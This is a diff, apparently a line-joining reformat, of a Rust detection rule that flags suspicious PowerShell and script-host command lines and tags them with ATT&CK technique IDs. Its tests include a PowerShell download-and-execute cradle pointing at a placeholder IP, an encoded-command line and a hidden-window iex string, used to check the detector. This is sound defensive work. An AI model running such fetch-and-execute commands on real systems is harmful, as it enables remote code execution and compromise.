@@ -96,9 +96,7 @@ impl Signal for Script02 {
                 continue;
             };
             let key = (row.id(t::CMDLINE), row.id(t::IMAGE_NAME));
-            let content = known
-                .entry(key)
-                .or_insert_with(|| of_command_line(row, line));
+            let content = known.entry(key).or_insert_with(|| of_command_line(row, line));
             if let Some(content) = content {
                 hits.push(content.hit(row));
             }
@@ -125,8 +123,7 @@ struct Content {
 
 /// Command lines of shells and script hosts, and those that call PowerShell.
 fn of_command_line(row: Row<'_>, line: &str) -> Option<Content> {
-    let powershell =
-        starts::is_one_of(row, &["powershell", "powershell_ise", "pwsh"]) || names_powershell(line);
+    let powershell = starts::is_one_of(row, &["powershell", "powershell_ise", "pwsh"]) || names_powershell(line);
     if !powershell && !starts::is_one_of(row, &["cmd", "cscript", "mshta", "wmic", "wscript"]) {
         return None;
     }
@@ -206,9 +203,7 @@ fn is_module(text: &str) -> bool {
         "#\n# copyright",
     ];
     let top = boilerplate.iter().any(|b| head.starts_with(b));
-    top && (head.contains("[cmdletbinding")
-        || head.contains("export-modulemember")
-        || head.contains("set-strictmode"))
+    top && (head.contains("[cmdletbinding") || head.contains("export-modulemember") || head.contains("set-strictmode"))
 }
 
 /// A script in a folder of modules that only administrators write to and that carries a signature, or PowerShell's own
@@ -232,22 +227,9 @@ fn is_shipped_module(text: &str, path: &str) -> bool {
 
 impl Content {
     fn hit(&self, row: Row<'_>) -> Hit {
-        let classes: Vec<Class> = Class::ALL
-            .into_iter()
-            .filter(|c| self.classes.contains(*c))
-            .collect();
-        let words: Vec<&str> = self
-            .classes
-            .tokens
-            .iter()
-            .map(|(_, t)| t.as_str())
-            .take(8)
-            .collect();
-        let named = classes
-            .iter()
-            .map(|c| name(*c))
-            .collect::<Vec<_>>()
-            .join(", ");
+        let classes: Vec<Class> = Class::ALL.into_iter().filter(|c| self.classes.contains(*c)).collect();
+        let words: Vec<&str> = self.classes.tokens.iter().map(|(_, t)| t.as_str()).take(8).collect();
+        let named = classes.iter().map(|c| name(*c)).collect::<Vec<_>>().join(", ");
         let explain = format!(
             "script content with {named} ({}): {}",
             words.join(", "),
@@ -274,12 +256,7 @@ impl Content {
     fn techniques(&self) -> Vec<&'static str> {
         let mut out = vec![self.own];
         let has = |c| self.classes.contains(c);
-        let word = |words: &[&str]| {
-            self.classes
-                .tokens
-                .iter()
-                .any(|(_, t)| words.contains(&t.as_str()))
-        };
+        let word = |words: &[&str]| self.classes.tokens.iter().any(|(_, t)| words.contains(&t.as_str()));
         if has(Class::Download) {
             out.push("T1105");
         }
@@ -339,10 +316,7 @@ mod tests {
 
     #[test]
     fn two_classes_are_medium_and_three_high() {
-        let cradle = block(
-            "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
-            "",
-        );
+        let cradle = block("IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "");
         assert_eq!((cradle.len(), cradle[0].level), (1, Level::High));
         assert_eq!(cradle[0].techniques, ["T1059.001", "T1105"]);
         let bypass = block(
@@ -367,22 +341,13 @@ mod tests {
             "powershell -enc {}",
             base64::engine::general_purpose::STANDARD.encode(text)
         );
-        assert_eq!(
-            hits_of(&Script02, "powershell.exe", "cmd.exe", &line).len(),
-            1
-        );
+        assert_eq!(hits_of(&Script02, "powershell.exe", "cmd.exe", &line).len(), 1);
     }
 
     #[test]
     fn everyday_scripts_and_modules_are_quiet() {
         assert!(block("Get-Service | Where Status -eq Running", "").is_empty());
-        assert!(
-            block(
-                "Invoke-WebRequest https://packages.corp.example/agent.msi",
-                ""
-            )
-            .is_empty()
-        );
+        assert!(block("Invoke-WebRequest https://packages.corp.example/agent.msi", "").is_empty());
         assert!(block("Import-Module ActiveDirectory", "").is_empty());
         let module = "# Copyright (c) A Vendor\nfunction Get-X { [CmdletBinding()] param() Add-Type -Path x; Invoke-WebRequest $u; iex $y }";
         assert!(block(module, "").is_empty());
@@ -391,14 +356,6 @@ mod tests {
             "# text\n".repeat(4000)
         );
         assert!(block(&long, "").is_empty());
-        assert!(
-            hits_of(
-                &Script02,
-                "notepad.exe",
-                "x.exe",
-                "notepad iex -w hidden iwr"
-            )
-            .is_empty()
-        );
+        assert!(hits_of(&Script02, "notepad.exe", "x.exe", "notepad iex -w hidden iwr").is_empty());
     }
 }
